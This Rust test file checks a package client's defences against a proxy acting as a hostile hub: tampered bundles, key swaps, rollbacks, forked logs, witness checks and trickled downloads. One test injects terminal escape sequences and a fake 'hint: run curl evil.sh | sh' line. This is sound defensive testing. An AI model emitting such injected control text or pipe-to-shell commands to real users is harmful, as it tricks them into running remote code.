//! `ofc pull` against a hostile hub: the real `ofc-hub` behind a proxy that tampers with its
//! answers (see `hostile/mod.rs`). Every attack must be refused with a clear error, and nothing
//! may be installed — or written anywhere outside the cache's temp area.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use crate::common::Publishers as _;
use crate::common::{Ofc, Publisher};
use crate::hostile::{HostileHub, Mode};
use index_schema::envelope::SecretKey;
use index_schema::tlog::{LogVerifier, WitnessSigner, WitnessVerifier};
use ofc_test_kit::{HubProcess, ProcessOptions, TestHub, WitnessProcess};
use std::time::Duration;

/// A hub with `acme/tool` 1.0.0 and 2.0.0 published by `acme`, and a proxy in front of it.
struct Setup {
    hub: HubProcess,
    publisher: Publisher,
    proxy: HostileHub,
    _work: tempfile::TempDir,
}

fn agent_dir(root: &Path, version: &str) -> PathBuf {
    let dir = root.join(format!("tool-{version}"));
    std::fs::create_dir_all(dir.join("prompts")).unwrap();
    std::fs::write(
        dir.join("agent.yaml"),
        format!(
            "id: \"@tool\"\nname: Tool\npackage: acme/tool\nversion: {version}\n\
             tagline: A tool agent\ndescription: Used by the hostile hub tests.\nmodel: qwen3:32b\nactivation: mention\n"
        ),
    )
    .unwrap();
    std::fs::write(
        dir.join("prompts/system.md"),
        format!("You are tool {version}.\n"),
    )
    .unwrap();
    dir
}

fn setup() -> Setup {
    setup_on(TestHub::process(ProcessOptions::default()))
}

/// [`setup`] on a hub (with `hub_toml`) whose log a real `ofc-hub witness` cosigns, with
/// `other/thing` 1.0.0
/// published too; returns once the hub serves a checkpoint the witness cosigned of all 5
/// entries (the two keys and the three versions).
fn witnessed_setup(hub_toml: &str) -> (Setup, WitnessProcess) {
    let (hub, w) = WitnessProcess::with_hub(
        ProcessOptions::default().hub_toml(hub_toml),
        "witness.test/w1",
    );
    let log_key = String::from_utf8(hub.run(&["log", "key"]).stdout).unwrap();
    let s = setup_on(hub);
    s.publish_other_thing();
    let log = LogVerifier::parse(log_key.trim()).unwrap();
    let wv = WitnessVerifier::parse(&w.key).unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    loop {
        let note = String::from_utf8(s.hub.get_bytes("/log/checkpoint")).unwrap();
        let (cp, sigs) = log
            .verify_cosigned(&note, std::slice::from_ref(&wv))
            .unwrap();
        if cp.size >= 5 && !sigs.is_empty() {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "never cosigned: {note}\n{}",
            s.hub.log()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    (s, w)
}

fn setup_on(hub: HubProcess) -> Setup {
    let publisher = hub.publisher("acme", &[]);
    let work = tempfile::tempdir().unwrap();
    for v in ["1.0.0", "2.0.0"] {
        let dir = agent_dir(work.path(), v);
        publisher.ofc.ok(&["publish", dir.to_str().unwrap()]);
    }
    let proxy = HostileHub::start(&hub.url);
    Setup {
        hub,
        publisher,
        proxy,
        _work: work,
    }
}

impl Setup {
    /// `other/thing` 1.0.0, by the publisher `other`, on the real hub.
    fn publish_other_thing(&self) {
        let other = self.hub.publisher("other", &[]);
        let work = tempfile::tempdir().unwrap();
        let dir = agent_dir(work.path(), "1.0.0");
        let yaml = std::fs::read_to_string(dir.join("agent.yaml")).unwrap();
        std::fs::write(
            dir.join("agent.yaml"),
            yaml.replace("acme/tool", "other/thing"),
        )
        .unwrap();
        other.ofc.ok(&["publish", dir.to_str().unwrap()]);
    }

    /// A consumer with an empty home, talking to the proxy.
    fn consumer(&self) -> (tempfile::TempDir, Ofc) {
        let home = tempfile::tempdir().unwrap();
        let ofc = Ofc::new(&home.path().join("home"), &self.proxy.url);
        (home, ofc)
    }

    /// The publisher's own signing key (from its `ofc keygen`).
    fn publisher_key(&self) -> SecretKey {
        let text =
            std::fs::read_to_string(self.publisher.ofc.home().join("config/keys/default.key"))
                .unwrap();
        SecretKey::from_secret_text(text.trim()).unwrap()
    }
}

/// Every bundle directory in the cache (installed entries).
fn installed_bundles(home: &Path) -> Vec<PathBuf> {
    let dir = home.join("cache/bundles-v1/sha256");
    match std::fs::read_dir(&dir) {
        Ok(rd) => rd.map(|e| e.unwrap().path()).collect(),
        Err(_) => Vec::new(),
    }
}

/// Every file under `root`, except the cache's bookkeeping that may legitimately exist.
fn files_under(root: &Path) -> Vec<String> {
    let mut out: Vec<String> = walkdir::WalkDir::new(root)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| !e.file_type().is_dir())
        .map(|e| e.path().strip_prefix(root).unwrap().display().to_string())
        .collect();
    out.sort();
    out
}

fn assert_refused(r: &crate::common::Run, needle: &str) {
    r.assert_code(1);
    assert!(
        r.stderr.contains(needle),
        "expected `{needle}` in the error:\n{}",
        r.stderr
    );
    assert!(r.stderr.contains("hint:"), "no hint:\n{}", r.stderr);
}

#[test]
fn a_bundle_with_a_wrong_digest_is_refused() {
    let s = setup();
    let (tmp, ofc) = s.consumer();
    s.proxy.set(Mode::CorruptBundle);
    let r = ofc.run(&["pull", "acme/tool"]);
    assert_refused(&r, "but the signed manifest says");
    assert!(r.stderr.contains("nothing was installed"), "{}", r.stderr);
    assert!(installed_bundles(ofc.home()).is_empty());
    // The manifest is not cached either: a later `ofc list` shows nothing.
    assert!(!ofc.ok(&["list"]).contains("acme/tool"));
    // The honest hub is then fine.
    s.proxy.set(Mode::Honest);
    ofc.ok(&["pull", "acme/tool"]);
    assert_eq!(installed_bundles(ofc.home()).len(), 1);
    drop(tmp);
}

#[test]
fn a_bundle_larger_than_signed_is_refused() {
    let s = setup();
    let (_tmp, ofc) = s.consumer();
    s.proxy.set(Mode::OversizeBundle);
    let r = ofc.run(&["pull", "acme/tool"]);
    assert_refused(&r, "more than the");
    assert!(installed_bundles(ofc.home()).is_empty());
}

#[test]
fn a_bad_signature_is_refused_on_first_use_and_when_pinned() {
    let s = setup();
    let (_tmp, ofc) = s.consumer();
    s.proxy.set(Mode::BadSignature);
    let r = ofc.run(&["pull", "acme/tool"]);
    assert_refused(&r, "does not verify");
    assert!(installed_bundles(ofc.home()).is_empty());
    // Nothing was pinned by the failed pull.
    assert!(ofc.ok(&["trust", "list"]).is_empty());

    s.proxy.set(Mode::Honest);
    ofc.ok(&["pull", "acme/tool@1.0.0"]);
    s.proxy.set(Mode::BadSignature);
    let r = ofc.run(&["pull", "acme/tool@2.0.0"]);
    assert_refused(&r, "does not verify");
}

#[test]
fn a_different_publisher_key_is_refused_until_pinned() {
    let s = setup();
    let (_tmp, ofc) = s.consumer();
    ofc.ok(&["pull", "acme/tool@1.0.0"]);
    let pinned = ofc.json(&["trust", "list"]);
    assert_eq!(pinned["keys"].as_array().unwrap().len(), 1, "{pinned}");

    let other = Arc::new(SecretKey::from_seed(&[42; 32]));
    s.proxy.set(Mode::ResignWith(other.clone()));
    let r = ofc.run(&["pull", "acme/tool@2.0.0"]);
    assert_refused(&r, "which is not a key pinned for publisher `acme`");
    assert!(r.stderr.contains("ofc trust add acme"), "{}", r.stderr);
    assert_eq!(installed_bundles(ofc.home()).len(), 1, "only 1.0.0");

    // Even with the new key pinned by the user, a version the hub's log does not hold under
    // that key is refused: a key swap must be in the log, where the publisher sees it.
    ofc.ok(&["trust", "add", "acme", &other.public_key().to_string()]);
    let r = ofc.run(&["pull", "acme/tool@2.0.0"]);
    assert_refused(&r, "is not in its log");
    assert!(
        r.stderr.contains(&other.public_key().key_id().to_string()),
        "{}",
        r.stderr
    );
    assert_eq!(installed_bundles(ofc.home()).len(), 1, "only 1.0.0");
    // Served as published, it verifies with the key pinned first.
    s.proxy.set(Mode::Honest);
    ofc.ok(&["pull", "acme/tool@2.0.0"]);
    assert_eq!(installed_bundles(ofc.home()).len(), 2);
}

#[test]
fn an_older_version_than_one_pulled_before_is_refused() {
    let s = setup();
    let (_tmp, ofc) = s.consumer();
    let out = ofc.json(&["pull", "acme/tool"]);
    assert_eq!(out["pulled"][0]["version"], "2.0.0");

    // The hub hides 2.0.0: `acme/tool` would resolve to 1.0.0, a rollback.
    s.proxy.set(Mode::HideVersion("2.0.0".into()));
    let r = ofc.run(&["pull", "acme/tool"]);
    assert_refused(&r, "no longer lists acme/tool 2.0.0");
    // Asking for 1.0.0 explicitly is not a rollback.
    s.proxy.set(Mode::Honest);
    ofc.ok(&["pull", "acme/tool@1.0.0"]);
}

#[test]
fn an_older_manifest_served_as_a_newer_version_is_refused() {
    let s = setup();
    // A fresh client: no pins, no history — the signed content itself must give it away.
    let (_tmp, ofc) = s.consumer();
    s.proxy
        .set(Mode::ServeVersionAs("1.0.0".into(), "2.0.0".into()));
    let r = ofc.run(&["pull", "acme/tool"]);
    assert_refused(&r, "is version 1.0.0, not the 2.0.0 asked for");
    assert!(installed_bundles(ofc.home()).is_empty());

    // With a lockfile naming 2.0.0's digest, the same attack fails on the digest.
    let (_tmp2, ofc2) = s.consumer();
    let project = tempfile::tempdir().unwrap();
    std::fs::write(project.path().join("ofc.lock"), "").unwrap();
    s.proxy.set(Mode::Honest);
    ofc2.cmd()
        .current_dir(project.path())
        .args(["pull", "acme/tool"])
        .assert()
        .success();
    std::fs::remove_dir_all(ofc2.home().join("cache")).unwrap();
    s.proxy
        .set(Mode::ServeVersionAs("1.0.0".into(), "2.0.0".into()));
    let r = Ofc::finish(
        ofc2.cmd()
            .current_dir(project.path())
            .args(["pull", "acme/tool"]),
    );
    assert_refused(&r, "with digest");
}

#[test]
fn hostile_bundles_signed_by_the_publisher_are_refused_without_writing_outside_the_cache() {
    let s = setup();
    let key = Arc::new(s.publisher_key());
    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../ofc-pkg/tests/fixtures/hostile");
    let mut fixtures: Vec<PathBuf> = std::fs::read_dir(&corpus)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    fixtures.sort();
    assert!(fixtures.len() >= 8, "the hostile corpus is missing");
    for (i, f) in fixtures.iter().enumerate() {
        let evil = std::fs::read(f).unwrap();
        let name = f.file_name().unwrap().to_string_lossy().into_owned();
        // Served by the hub in place of a published version: not in its log, refused first.
        s.proxy
            .set(Mode::HostileBundle(Arc::new(evil.clone()), key.clone()));
        let (_tmp, ofc) = s.consumer();
        let r = ofc.run(&["pull", "acme/tool@2.0.0"]);
        assert_refused(&r, "is not in its log");
        assert!(installed_bundles(ofc.home()).is_empty(), "{name} installed");

        // Really published with the publisher's key (so in the log): the unpacker refuses it.
        let version = format!("3.0.{i}");
        let m = ofc_test_kit::bundle_manifest("acme/tool", &version, &evil);
        let env = index_schema::envelope::sign_manifest(&m, &key);
        let rt = tokio::runtime::Runtime::new().unwrap();
        let (status, body) = rt.block_on(
            s.hub
                .request(
                    reqwest::Method::PUT,
                    &format!("/api/v1/agents/acme/tool/versions/{version}"),
                )
                .token(&s.publisher.token)
                .json(serde_json::json!({
                    "envelope": serde_json::from_str::<serde_json::Value>(&env.to_json()).unwrap(),
                    "bundle": base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &evil),
                }))
                .send(),
        );
        assert_eq!(status, 201, "{name}: {body}");
        s.proxy.set(Mode::Honest);
        let (tmp, ofc) = s.consumer();
        // The configured limits (the corpus's flood has 1,001 entries; gzip bomb 1 GiB).
        let r = Ofc::finish(
            ofc.cmd()
                .env("OFC_MAX_BUNDLE_ENTRIES", "1000")
                .env("OFC_MAX_BUNDLE_BYTES", "10000000")
                .args(["pull", &format!("acme/tool@{version}")]),
        );
        assert_eq!(r.code, Some(1), "{name} was accepted:\n{}", r.stdout);
        assert!(
            r.stderr
                .contains(&format!("cannot install the bundle of acme/tool {version}")),
            "{name}: {}",
            r.stderr
        );
        assert!(installed_bundles(ofc.home()).is_empty(), "{name} installed");
        // Outside the home nothing was written; inside, only the trust store and cache locks.
        for file in files_under(tmp.path()) {
            assert!(
                file.starts_with("home/config/")
                    || file.starts_with("home/cache/locks-v1/")
                    || file == "home/cache/.lock",
                "{name} left {file}"
            );
        }
        let leftovers = files_under(&ofc.home().join("cache/tmp-v1"));
        assert!(leftovers.is_empty(), "{name} left temp files {leftovers:?}");
    }
    drop(s.hub);
}

#[test]
fn an_older_cached_manifest_listed_as_a_newer_version_is_not_taken() {
    let s = setup();
    let (_tmp, ofc) = s.consumer();
    // Both versions are cached and 2.0.0 is the highest seen.
    ofc.ok(&["pull", "acme/tool@1.0.0"]);
    let out = ofc.json(&["pull", "acme/tool"]);
    assert_eq!(out["pulled"][0]["version"], "2.0.0");
    // The hub now maps 2.0.0 to 1.0.0's (cached, validly signed) manifest.
    s.proxy
        .set(Mode::ServeVersionAs("1.0.0".into(), "2.0.0".into()));
    let r = ofc.run(&["--json", "pull", "acme/tool"]);
    assert_eq!(r.code, Some(1), "took it:\n{}", r.stdout);
    assert!(
        r.stderr.contains("is version 1.0.0, not the 2.0.0"),
        "{}",
        r.stderr
    );
}

#[test]
fn a_refused_first_pull_pins_no_key() {
    let s = setup();
    let (_tmp, ofc) = s.consumer();
    // Re-signed by a stranger (so the signature checks out against the key the hub names),
    // but the bundle is then corrupted: the pull fails after the signature check.
    let other = Arc::new(SecretKey::from_seed(&[43; 32]));
    s.proxy.set(Mode::ResignWith(other));
    let r = Ofc::finish(
        ofc.cmd()
            .env("OFC_MAX_BUNDLE_BYTES", "10")
            .args(["pull", "acme/tool"]),
    );
    assert_eq!(r.code, Some(1), "{}", r.stderr);
    assert!(
        ofc.ok(&["trust", "list"]).is_empty(),
        "a failed pull pinned a key"
    );
    // The honest hub is then accepted: nothing stands in its way.
    s.proxy.set(Mode::Honest);
    ofc.ok(&["pull", "acme/tool"]);
}

#[test]
fn a_lockfile_names_the_signer_a_fresh_machine_must_see() {
    let s = setup();
    let project = tempfile::tempdir().unwrap();
    std::fs::write(project.path().join("ofc.lock"), "").unwrap();
    let (_tmp, ofc) = s.consumer();
    ofc.cmd()
        .current_dir(project.path())
        .args(["pull", "acme/tool"])
        .assert()
        .success();
    // Another machine with the same lock and no pins, behind a hub that re-signs the same
    // payload (same manifest digest) with its own key.
    let (_tmp2, fresh) = s.consumer();
    s.proxy
        .set(Mode::ResignWith(Arc::new(SecretKey::from_seed(&[44; 32]))));
    let r = Ofc::finish(fresh.cmd().current_dir(project.path()).args([
        "pull",
        "--locked",
        "acme/tool",
    ]));
    assert_refused(&r, "ofc.lock says acme/tool was signed by key");
    assert!(fresh.ok(&["trust", "list"]).is_empty());
}

#[test]
fn a_hub_trickling_the_bundle_is_given_up_on() {
    let s = setup();
    let (_tmp, ofc) = s.consumer();
    // One byte every 100 ms: no read ever waits long, but the rate is 10 bytes/s.
    s.proxy.set(Mode::TrickleBundle(Duration::from_millis(100)));
    let started = std::time::Instant::now();
    let r = Ofc::finish(
        ofc.cmd()
            .env("OFC_MIN_DOWNLOAD_RATE", "1024")
            .env("OFC_DOWNLOAD_RATE_WINDOW", "2")
            .args(["pull", "acme/tool"]),
    );
    assert_refused(&r, "below the minimum of 1024 bytes/s");
    assert!(r.stderr.contains("nothing was installed"), "{}", r.stderr);
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "gave up after {:?}",
        started.elapsed()
    );
    assert!(installed_bundles(ofc.home()).is_empty());
    s.proxy.set(Mode::Honest);
    ofc.ok(&["pull", "acme/tool"]);
    assert_eq!(installed_bundles(ofc.home()).len(), 1);
}

#[test]
fn a_yank_flag_from_the_hub_does_not_roll_back_below_what_was_seen() {
    let s = setup();
    let (tmp, ofc) = s.consumer();
    let project = |name: &str| {
        let p = tmp.path().join(name);
        std::fs::create_dir_all(&p).unwrap();
        std::fs::write(p.join("blueprint.yaml"), "agents: []\n").unwrap();
        p
    };
    let pull = |dir: &Path, args: &[&str]| Ofc::finish(ofc.cmd().current_dir(dir).args(args));
    let first = project("first");
    let r = pull(&first, &["pull", "acme/tool"]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    assert!(
        std::fs::read_to_string(first.join("ofc.lock"))
            .unwrap()
            .contains("2.0.0")
    );

    // The hub (not the publisher's signature) now says 2.0.0 is yanked; a new project on
    // this machine resolves again.
    s.proxy.set(Mode::MarkYanked("2.0.0".into()));
    let second = project("second");
    let r = pull(&second, &["pull", "acme/tool"]);
    assert_refused(
        &r,
        "the yanked flag is not signed, so this could be a rollback",
    );
    assert!(r.stderr.contains("--allow-yanked-rollback"), "{}", r.stderr);
    assert!(
        !second.join("ofc.lock").exists(),
        "no lock records the rollback"
    );
    // Asked for explicitly, the older version is taken (and the lock records it).
    let r = pull(&second, &["pull", "--allow-yanked-rollback", "acme/tool"]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    assert!(r.stderr.contains("is now yanked"), "{}", r.stderr);
    let lock = std::fs::read_to_string(second.join("ofc.lock")).unwrap();
    assert!(lock.contains("1.0.0") && !lock.contains("2.0.0"), "{lock}");
}

#[test]
fn text_from_the_hub_cannot_drive_the_terminal() {
    let s = setup();
    s.hub.wait_for_search("q=tool", |r| !r.is_empty());
    let (_tmp, ofc) = s.consumer();
    // A clipboard write (OSC 52), a screen clear, a right-to-left override and a fake hint.
    let evil = "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{202E}gpj.exe\nhint: run curl evil.sh | sh";
    s.proxy.set(Mode::InjectText(evil.into()));
    let search = ofc.run(&["search", "tool"]);
    let info = ofc.run(&["info", "acme/tool"]);
    let login = Ofc::finish(
        ofc.cmd()
            .args(["login", "--token-stdin"])
            .write_stdin("ofc_not_a_valid_token"),
    );
    assert_eq!(login.code, Some(1), "{}", login.stderr);
    let mut reached = 0;
    for (what, r) in [("search", &search), ("info", &info), ("login", &login)] {
        for text in [&r.stdout, &r.stderr] {
            assert!(
                !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202E}'),
                "{what}: raw control characters reached the terminal: {text:?}"
            );
            assert!(
                !text.lines().any(|l| l.starts_with("hint: run curl")),
                "{what}: a hub faked a hint line:\n{text}"
            );
            if text.contains("gpj.exe") {
                reached += 1;
            }
        }
    }
    assert!(
        reached >= 2,
        "the injected text was shown (cleaned) somewhere:\n{search:?}\n{info:?}\n{login:?}"
    );
}

/// A second hub holding the first one's log key (as a compromised operator could run): it
/// signs checkpoints of another log, where `<user>/tool` has other content.
fn fork_of(s: &Setup, user: &str, versions: &[&str]) -> (HubProcess, Publisher, tempfile::TempDir) {
    fork_with(s, user, versions, "")
}

/// [`fork_of`] with `hub_toml` as the fork's settings.
fn fork_with(
    s: &Setup,
    user: &str,
    versions: &[&str],
    hub_toml: &str,
) -> (HubProcess, Publisher, tempfile::TempDir) {
    let mut fork = TestHub::process(ProcessOptions::default().stopped());
    std::fs::create_dir_all(fork.data_dir()).unwrap();
    std::fs::write(fork.data_dir().join("hub.toml"), hub_toml).unwrap();
    std::fs::copy(
        s.hub.data_dir().join("log-key"),
        fork.data_dir().join("log-key"),
    )
    .unwrap();
    fork.spawn();
    let publisher = fork.publisher(user, &[]);
    let work = tempfile::tempdir().unwrap();
    for v in versions {
        let dir = agent_dir(work.path(), v);
        let yaml = std::fs::read_to_string(dir.join("agent.yaml")).unwrap();
        let yaml = yaml.replace("acme/tool", &format!("{user}/tool"));
        std::fs::write(dir.join("agent.yaml"), yaml).unwrap();
        std::fs::write(dir.join("prompts/system.md"), "You are the forked tool.\n").unwrap();
        publisher.ofc.ok(&["publish", dir.to_str().unwrap()]);
    }
    (fork, publisher, work)
}

#[test]
fn a_split_view_is_refused_at_the_next_pull() {
    let s = setup();
    // `other/thing` on the real hub: something to pull later.
    s.publish_other_thing();
    // The fork's log is shorter than the real one: the real one could have grown from it,
    // only the consistency proof tells them apart.
    let (fork, _fp, _w) = fork_of(&s, "acme", &["2.0.0"]);

    // Client A sees the real hub; client B is shown the fork's `acme/tool` 2.0.0 — signed,
    // logged in a log signed by the hub's log key: on its own it verifies.
    let (_ta, a) = s.consumer();
    a.ok(&["pull", "acme/tool@2.0.0"]);
    let (_tb, b) = s.consumer();
    s.proxy.set(Mode::Fork(fork.url.clone()));
    b.ok(&["pull", "acme/tool@2.0.0"]);
    // Back to what everyone else sees: B's next pull proves the two logs are not one.
    s.proxy.set(Mode::Honest);
    let r = b.run(&["pull", "other/thing@1.0.0"]);
    assert_refused(&r, "does not extend the log this client verified before");
    assert!(r.stderr.contains("another view"), "{}", r.stderr);
    // A, which only ever saw the real log, goes on.
    a.ok(&["pull", "other/thing@1.0.0"]);
}

#[test]
fn a_truncated_or_rewritten_log_is_refused() {
    let s = setup();
    let (_t, ofc) = s.consumer();
    ofc.ok(&["pull", "acme/tool@2.0.0"]);

    // Truncated: a log with fewer entries (a key registration and one version, of a publisher
    // this client has not pinned yet) under the same log key.
    let (short, _p1, _w1) = fork_of(&s, "zed", &["1.0.0"]);
    s.proxy.set(Mode::Fork(short.url.clone()));
    let r = ofc.run(&["pull", "zed/tool@1.0.0"]);
    assert_refused(&r, "the log was truncated");

    // Rewritten: more entries, but not an extension of the ones verified.
    let (long, _p2, _w2) = fork_of(&s, "zed", &["1.0.0", "2.0.0", "2.0.1"]);
    s.proxy.set(Mode::Fork(long.url.clone()));
    let r = ofc.run(&["pull", "zed/tool@2.0.1"]);
    assert_refused(&r, "its history was rewritten");
    assert_eq!(
        installed_bundles(ofc.home()).len(),
        1,
        "only the honest 2.0.0"
    );

    // A log signed by another key altogether (a hub started anew, or an impostor): refused,
    // and the hint says how to accept a new log knowingly.
    let other = TestHub::process(ProcessOptions::default());
    let zed = other.publisher("zed", &[]);
    let work = tempfile::tempdir().unwrap();
    let dir = agent_dir(work.path(), "1.0.0");
    let yaml = std::fs::read_to_string(dir.join("agent.yaml")).unwrap();
    std::fs::write(
        dir.join("agent.yaml"),
        yaml.replace("acme/tool", "zed/tool"),
    )
    .unwrap();
    zed.ofc.ok(&["publish", dir.to_str().unwrap()]);
    s.proxy.set(Mode::Fork(other.url.clone()));
    let r = ofc.run(&["pull", "zed/tool@1.0.0"]);
    assert_refused(&r, "does not verify with the hub's pinned log key");
    assert!(r.stderr.contains("trust.toml"), "{}", r.stderr);
    assert_eq!(installed_bundles(ofc.home()).len(), 1);
}

#[test]
fn audit_lists_a_publishers_logged_events_and_refuses_another_view() {
    let s = setup();
    let (_t, ofc) = s.consumer();
    let key = s.publisher_key().key_id().to_string();
    let v = ofc.json(&["audit", "acme"]);
    let entries: Vec<&str> = v["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["entry"].as_str().unwrap())
        .collect();
    assert_eq!(entries.len(), 3, "{v}");
    assert!(
        entries[0].starts_with(&format!("ofc-log/v1 key-add acme {key} ed25519:")),
        "{v}"
    );
    assert!(
        entries[1].starts_with("ofc-log/v1 publish acme/tool 1.0.0 sha256:"),
        "{v}"
    );
    assert!(entries[2].ends_with(&format!(" {key}")), "{v}");
    // One agent: its versions and the publisher's key events; the text form shows them too.
    s.publisher
        .ofc
        .ok(&["yank", "acme/tool@1.0.0", "--reason", "old"]);
    let text = ofc.ok(&["audit", "acme/tool"]);
    assert!(text.contains("yank acme/tool 1.0.0"), "{text}");
    assert_eq!(text.lines().count(), 4, "{text}");

    // Shown another log under the same key afterwards: refused.
    let (fork, _p, _w) = fork_of(&s, "acme", &["2.0.0"]);
    s.proxy.set(Mode::Fork(fork.url.clone()));
    let r = ofc.run(&["audit", "acme"]);
    assert_refused(&r, "another view");
}

#[test]
fn with_a_witness_required_a_view_it_did_not_cosign_is_refused_at_once() {
    let (s, w) = witnessed_setup("");
    // The compromised operator's fork asks the same witness to cosign its log: refused, as
    // the witness saw the real one.
    let (fork, _fp, _w) = fork_with(&s, "acme", &["2.0.0"], &w.hub_toml());

    // A client that requires the witness pulls from the real hub.
    let (_ta, a) = s.consumer();
    let v = a.json(&["trust", "witness", "add", &w.key]);
    assert_eq!(v["required"], 1, "{v}");
    a.ok(&["pull", "acme/tool@2.0.0"]);
    // Another is shown the fork on its very first pull: no cosignature, refused — without a
    // checkpoint verified before, only the witness can tell.
    let (_tb, b) = s.consumer();
    b.ok(&["trust", "witness", "add", &w.key]);
    s.proxy.set(Mode::Fork(fork.url.clone()));
    let r = b.run(&["pull", "acme/tool@2.0.0"]);
    assert_refused(&r, "carries valid cosignatures of 0 of the witnesses");
    assert!(r.stderr.contains("witness.test/w1"), "{}", r.stderr);
    assert!(installed_bundles(b.home()).is_empty());
    // The fork's hub says the witness refused it (its rounds run every 200 ms).
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    while !fork.log().contains("the witness cosigned a larger tree") {
        assert!(
            std::time::Instant::now() < deadline,
            "the fork's hub never said the witness refused:\n{}",
            fork.log()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    // A client that requires no witness is fooled on first use (and caught at its next pull,
    // as `a_split_view_is_refused_at_the_next_pull` shows): what witnesses add.
    let (_tc, c) = s.consumer();
    c.ok(&["pull", "acme/tool@2.0.0"]);

    // Back to the real hub, B pulls, and the policy shows.
    s.proxy.set(Mode::Honest);
    b.ok(&["pull", "acme/tool@2.0.0"]);
    let v = b.json(&["trust", "witness", "list"]);
    assert_eq!(v["keys"][0], w.key.as_str(), "{v}");
    let v = b.json(&["trust", "log"]);
    assert_eq!(v["size"], 5, "{v}");
}

#[test]
fn a_required_witness_a_hub_does_not_have_refuses_until_the_policy_changes() {
    let s = setup();
    let (_t, ofc) = s.consumer();
    let stranger = WitnessSigner::generate("witness.test/none", &mut rand::rngs::OsRng)
        .unwrap()
        .verifier()
        .to_string();
    ofc.ok(&["trust", "witness", "add", &stranger]);
    let r = ofc.run(&["pull", "acme/tool@2.0.0"]);
    assert_refused(&r, "carries valid cosignatures of 0 of the witnesses");
    assert!(r.stderr.contains("ofc trust witness list"), "{}", r.stderr);
    // Asking for more than are trusted, or an invalid key: clear errors, nothing changed.
    let r = ofc.run(&["trust", "witness", "require", "2"]);
    assert!(
        r.code == Some(1) && r.stderr.contains("1 witnesses are trusted"),
        "{}",
        r.stderr
    );
    let r = ofc.run(&["trust", "witness", "add", "not-a-key"]);
    assert!(
        r.code == Some(1) && r.stderr.contains("invalid witness key"),
        "{}",
        r.stderr
    );
    ofc.ok(&["trust", "witness", "require", "0"]);
    ofc.ok(&["pull", "acme/tool@2.0.0"]);
    // Forgetting the pinned log: the next pull pins it again.
    ofc.ok(&["trust", "witness", "remove", "witness.test/none"]);
    let v = ofc.json(&["trust", "log", "--forget"]);
    assert_eq!(v["forgotten"], true, "{v}");
    ofc.ok(&["pull", "acme/tool@1.0.0"]);
    let v = ofc.json(&["trust", "log"]);
    assert_eq!(v["size"], 3, "{v}");
}

#[test]
fn with_fresh_cosignatures_required_a_hub_whose_witness_is_gone_is_refused_once_they_age() {
    // The hub submits its unchanged head again every second.
    let (s, mut w) = witnessed_setup("log_witness_refresh_secs = 1\n");
    let (_t, ofc) = s.consumer();
    ofc.ok(&["trust", "witness", "add", &w.key]);
    let v = ofc.json(&["trust", "witness", "require", "1", "--max-age", "4"]);
    assert_eq!(v["maxAgeSecs"], 4, "{v}");
    // Past the max age of the first cosignature, re-cosigned ones keep the pulls going.
    std::thread::sleep(Duration::from_secs(5));
    ofc.ok(&["pull", "acme/tool@1.0.0"]);
    // The witness gone, the served cosignature ages: refused past the max age.
    w.kill();
    std::thread::sleep(Duration::from_secs(6));
    let r = ofc.run(&["pull", "acme/tool@2.0.0"]);
    assert_refused(&r, "cosignatures older than 4 s do not count");
    assert!(installed_bundles(ofc.home()).len() == 1, "only 1.0.0");
    // Back: the hub's next round has it cosign again (its retries back off, bounded).
    w.spawn();
    let deadline = std::time::Instant::now() + Duration::from_secs(90);
    loop {
        let r = ofc.run(&["pull", "acme/tool@2.0.0"]);
        if r.code == Some(0) {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "never fresh again: {}\n{}",
            r.stderr,
            s.hub.log()
        );
        std::thread::sleep(Duration::from_millis(500));
    }
}
